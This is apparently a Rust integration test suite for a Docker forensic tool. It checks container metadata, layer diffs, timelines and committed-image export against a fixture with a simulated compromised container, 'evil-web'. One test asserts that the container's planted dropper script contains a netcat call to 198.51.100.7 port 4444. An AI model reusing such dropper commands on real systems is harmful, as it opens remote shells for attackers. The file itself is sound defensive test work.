//! Docker 29's default, the containerd image store: containers in
//! `/var/lib/docker/containers` (`Driver: overlayfs`), their layers in
//! containerd's `moby` namespace, no `/var/lib/docker/image`. Every answer
//! is compared with what the engine itself said (`moby29.expected.json`),
//! from the unpacked host tree and from the E01 disk image.

mod common;

use common::daemon::Daemon;
use common::*;
use serde_json::Value;
use std::path::{Path, PathBuf};

/// The moby29 E01, or `None` (after a loud skip) where it is not there.
fn e01() -> Option<PathBuf> {
    let p = fixtures_dir().join("moby29.disk.E01");
    if p.exists() {
        Some(p)
    } else {
        skip(&format!("{} not found", p.display()));
        None
    }
}

/// The engine's answers for each container, by name.
fn expected_containers() -> Vec<Value> {
    expected("moby29")["containers"]
        .as_array()
        .expect("containers in expected.json")
        .clone()
}

/// Go's zero time (Docker's "never") as our `None`.
fn time_or_none(v: &Value) -> Value {
    match v.as_str() {
        Some("0001-01-01T00:00:00Z") | Some("") | None => Value::Null,
        Some(t) => Value::String(t.to_string()),
    }
}

fn sorted_strs(v: &Value) -> Vec<String> {
    let mut out: Vec<String> = v
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    out.sort();
    out
}

/// `containers --json` on `evidence`, checked against the engine.
fn containers_match(evidence: &Path) {
    let r = run([
        Path::new("containers"),
        evidence,
        Path::new("--json"),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let got = common::json_list(&r.stdout, "containers");
    let want = expected_containers();
    assert_eq!(got.len(), want.len(), "{}", r.stdout);
    for w in &want {
        let name = w["name"].as_str().unwrap();
        let c = got
            .iter()
            .find(|c| c["name"] == name)
            .unwrap_or_else(|| panic!("{name} not listed: {}", r.stdout));
        assert_eq!(c["container_id"], w["id"], "{name}");
        assert_eq!(c["store"], "docker", "{name}");
        assert_eq!(c["state"], w["status"], "{name}");
        assert_eq!(c["exit_code"], w["exit_code"], "{name}");
        assert_eq!(c["created"], w["created"], "{name}");
        assert_eq!(c["started"], time_or_none(&w["started_at"]), "{name}");
        assert_eq!(c["finished"], time_or_none(&w["finished_at"]), "{name}");
        assert_eq!(c["image_id"], w["image"], "{name}");
        assert_eq!(c["image_ref"], w["image_ref"], "{name}");
        assert_eq!(c["image_store"], "containerd/moby", "{name}");
        assert_eq!(c["driver"], w["driver"], "{name}");
        assert_eq!(c["path"], w["path"], "{name}");
        assert_eq!(c["args"], w["args"], "{name}");
        assert_eq!(c["cmd"], w["cmd"], "{name}");
        assert_eq!(c["entrypoint"], w["entrypoint"], "{name}");
        assert_eq!(
            c["env"],
            if w["env"].is_null() {
                Value::Array(Vec::new())
            } else {
                w["env"].clone()
            },
            "{name}"
        );
        assert_eq!(
            c["user"].as_str().unwrap_or(""),
            w["user"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(
            c["working_dir"].as_str().unwrap_or(""),
            w["workdir"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(c["labels"], w["labels"], "{name}");
        assert_eq!(c["network_mode"], w["network_mode"], "{name}");
        // hostconfig.json records it: never `null` for Docker.
        assert!(c["privileged"].is_boolean(), "{name}: {}", c["privileged"]);
        let dests: Vec<&Value> = c["mounts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| &m["destination"])
            .collect();
        let want_dests: Vec<&Value> = w["mounts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| &m["Destination"])
            .collect();
        assert_eq!(dests, want_dests, "{name}");
        assert!(c.get("problems").is_none(), "{name}: {c}");
    }
}

/// `diff` of every container on `evidence` equals `docker diff`.
fn diffs_match(evidence: &Path) {
    for w in expected_containers() {
        let name = w["name"].as_str().unwrap();
        let r = run([
            Path::new("diff"),
            Path::new(name),
            evidence,
            Path::new("-q"),
        ]);
        assert_eq!(r.code, 0, "{name}: {}", r.stderr);
        let mut got: Vec<&str> = r.stdout.lines().collect();
        got.sort();
        assert_eq!(got, sorted_strs(&w["diff"]), "{name}");
    }
}

/// `export-container evil-web` on `evidence`: changes.tar, a committed
/// image of the containerd-store image plus the changes, its report.
fn export_evil_web(evidence: &Path, out: &Path) -> (PathBuf, Value) {
    let r = run([
        Path::new("export-container"),
        Path::new("evil-web"),
        evidence,
        out,
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let dir = PathBuf::from(r.stdout.trim());
    let report: Value =
        serde_json::from_slice(&std::fs::read(dir.join("report.json")).unwrap()).unwrap();
    let w = expected_containers()
        .into_iter()
        .find(|c| c["name"] == "evil-web")
        .unwrap();
    let mut diff: Vec<String> = report["diff"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} {}",
                c["kind"].as_str().unwrap(),
                c["path"].as_str().unwrap()
            )
        })
        .collect();
    diff.sort();
    assert_eq!(diff, sorted_strs(&w["diff"]));
    assert!(dir.join("changes.tar").is_file());
    assert!(dir.join("committed.tar").is_file());
    assert!(dir.join("config.v2.json").is_file());
    assert!(report["committed_image_id"].is_string(), "{report}");
    assert_eq!(report["verified"], true, "{report}");
    // The image it was committed from is the one `config.v2.json` names:
    // its layers are the image's (one per diff_id).
    let image = expected("moby29")["images"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == w["image"])
        .cloned()
        .expect("evil-web's image in expected.json");
    let layers: Vec<&Value> = report["image_layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| &l["diff_id"])
        .collect();
    let want: Vec<&Value> = image["diff_ids"].as_array().unwrap().iter().collect();
    assert_eq!(layers, want);
    (dir, report)
}

/// A fresh dockerd loads committed.tar under its id and runs it: the
/// container's dropper is there, its deletion too.
fn loads_and_runs(dir: &Path, report: &Value) {
    let Some(d) = Daemon::start() else { return };
    d.load(&dir.join("committed.tar"));
    let tag = report["committed_tag"].as_str().unwrap();
    assert_eq!(
        d.image_id(tag),
        report["committed_image_id"].as_str().unwrap()
    );
    let (ok, seen) = d.docker(&[
        "run", "--rm", "--network=none", "--entrypoint", "/bin/sh", tag, "-c",
        "cat /tmp/dropper.sh; test -e /srv/app/hello.txt && echo HELLO-PRESENT; cat /srv/app/cache/b",
    ]);
    assert!(ok, "{seen}");
    assert!(seen.contains("nc 198.51.100.7 4444"), "{seen}");
    assert!(!seen.contains("HELLO-PRESENT"), "{seen}");
    assert!(seen.contains("pwned"), "{seen}");
}

#[test]
fn containers_from_the_host_match_docker() {
    let Some(host) = host("moby29") else { return };
    containers_match(&host);
}

#[test]
fn diff_from_the_host_matches_docker() {
    let Some(host) = host("moby29") else { return };
    diffs_match(&host);
}

#[test]
fn containers_and_diff_from_the_e01_match_docker() {
    let Some(e01) = e01() else { return };
    containers_match(&e01);
    diffs_match(&e01);
}

#[test]
fn no_images_of_its_own_in_the_docker_root() {
    let Some(host) = host("moby29") else { return };
    let r = run([
        Path::new("images"),
        &host,
        Path::new("--json"),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = common::json_list(&r.stdout, "images");
    assert!(!rows.is_empty());
    assert!(
        rows.iter().all(|r| r["store"] == "containerd/moby"),
        "{rows:?}"
    );
}

/// `timeline` of `evidence` has evil-web's events and its dropper.
fn timeline_has_the_dropper(evidence: &Path) {
    let r = run([Path::new("timeline"), evidence, Path::new("-q")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout
            .lines()
            .any(|l| l.contains("[container evil-web] /tmp/dropper.sh")),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("[container evil-web] container"));
}

#[test]
fn timeline_has_the_dropper_of_evil_web() {
    let Some(host) = host("moby29") else { return };
    timeline_has_the_dropper(&host);
}

#[test]
fn timeline_from_the_e01_has_the_dropper_of_evil_web() {
    let Some(e01) = e01() else { return };
    timeline_has_the_dropper(&e01);
}

#[test]
fn committed_container_from_the_host_loads_and_runs() {
    let Some(host) = host("moby29") else { return };
    let out = tempfile::tempdir().unwrap();
    let (dir, report) = export_evil_web(&host, out.path());
    loads_and_runs(&dir, &report);
}

#[test]
fn committed_container_from_the_e01_loads_and_runs() {
    let Some(e01) = e01() else { return };
    let out = tempfile::tempdir().unwrap();
    let (dir, report) = export_evil_web(&e01, out.path());
    loads_and_runs(&dir, &report);
}

/// A copy of container `from`'s directory as a new container `id`, with
/// `edit` applied to its `config.v2.json`.
fn clone_container(root: &Path, from: &str, id: &str, name: &str, edit: impl Fn(&mut Value)) {
    let src = root.join("var/lib/docker/containers").join(from);
    let dst = root.join("var/lib/docker/containers").join(id);
    std::fs::create_dir_all(&dst).unwrap();
    let mut cfg: Value =
        serde_json::from_slice(&std::fs::read(src.join("config.v2.json")).unwrap()).unwrap();
    cfg["ID"] = id.into();
    cfg["Name"] = format!("/{name}").into();
    edit(&mut cfg);
    std::fs::write(
        dst.join("config.v2.json"),
        serde_json::to_vec(&cfg).unwrap(),
    )
    .unwrap();
    std::fs::copy(src.join("hostconfig.json"), dst.join("hostconfig.json")).unwrap();
}

#[test]
fn a_gone_snapshot_and_an_unknown_driver_are_one_line_each() {
    let Some(copy) = host_copy("moby29") else {
        return;
    };
    let root = copy.path();
    let want = expected_containers();
    // evil-web exited: a created container may have no writable layer.
    let evil = want.iter().find(|c| c["name"] == "evil-web").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let gone = "1".repeat(64);
    let odd = "2".repeat(64);
    // A container whose snapshot containerd does not have.
    clone_container(root, &evil, &gone, "ghost", |_| {});
    // A container whose driver names no store here.
    clone_container(root, &evil, &odd, "odd", |c| c["Driver"] = "bogusfs".into());

    let r = run([Path::new("containers"), root, Path::new("--json")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let got = common::json_list(&r.stdout, "containers");
    let names: Vec<&str> = got.iter().filter_map(|c| c["name"].as_str()).collect();
    for w in &want {
        assert!(names.contains(&w["name"].as_str().unwrap()), "{names:?}");
    }
    assert!(
        names.contains(&"ghost") && names.contains(&"odd"),
        "{names:?}"
    );
    let note = |id: &str| -> Vec<&str> {
        r.stderr
            .lines()
            .filter(|l| l.contains(&format!("container {id}:")))
            .collect()
    };
    let g = note(&gone);
    assert_eq!(g.len(), 1, "{}", r.stderr);
    assert!(g[0].contains(&format!("snapshot {gone}")), "{}", g[0]);
    let o = note(&odd);
    assert_eq!(o.len(), 1, "{}", r.stderr);
    assert!(o[0].contains("bogusfs"), "{}", o[0]);
    // The others are untouched.
    for w in &want {
        assert!(note(w["id"].as_str().unwrap()).is_empty(), "{}", r.stderr);
    }

    // `diff` of the broken ones: a one-line error naming what is missing;
    // of the others: the engine's answer.
    let r = run([Path::new("diff"), Path::new("ghost"), root, Path::new("-q")]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert_eq!(r.stderr.trim().lines().count(), 1, "{}", r.stderr);
    assert!(r.stderr.contains(&gone), "{}", r.stderr);
    let r = run([Path::new("diff"), Path::new("odd"), root, Path::new("-q")]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert_eq!(r.stderr.trim().lines().count(), 1, "{}", r.stderr);
    assert!(r.stderr.contains("bogusfs"), "{}", r.stderr);
    diffs_match(root);
}

#[test]
fn a_named_data_root_reads_its_containerd_store_too() {
    let Some(host) = host("moby29") else { return };
    let w = expected_containers()
        .into_iter()
        .find(|c| c["name"] == "evil-web")
        .unwrap();
    let r = run([
        Path::new("diff"),
        Path::new("evil-web"),
        &host,
        Path::new("--docker-root"),
        Path::new("/var/lib/docker"),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let mut got: Vec<&str> = r.stdout.lines().collect();
    got.sort();
    assert_eq!(got, sorted_strs(&w["diff"]));
}

#[test]
fn a_snapshot_directory_gone_is_one_line() {
    let Some(copy) = host_copy("moby29") else {
        return;
    };
    let root = copy.path();
    let want = expected_containers();
    let evil = want.iter().find(|c| c["name"] == "evil-web").unwrap();
    let id = evil["id"].as_str().unwrap();
    let upper = evil["on_disk"]["overlay_mount"]["upperdir"]
        .as_str()
        .unwrap();
    std::fs::remove_dir_all(root.join(upper.trim_start_matches('/'))).unwrap();

    let r = run([Path::new("containers"), root, Path::new("--json")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let got = common::json_list(&r.stdout, "containers");
    assert_eq!(got.len(), want.len(), "{}", r.stdout);
    let notes: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.starts_with("note: container"))
        .collect();
    assert_eq!(notes.len(), 1, "{}", r.stderr);
    assert!(
        notes[0].contains(id) && notes[0].contains(upper),
        "{}",
        notes[0]
    );

    let r = run([
        Path::new("diff"),
        Path::new("evil-web"),
        root,
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert_eq!(r.stderr.trim().lines().count(), 1, "{}", r.stderr);
    assert!(r.stderr.contains(upper), "{}", r.stderr);
    let r = run([Path::new("diff"), Path::new("idle"), root, Path::new("-q")]);
    assert_eq!(r.code, 0, "{}", r.stderr);
}
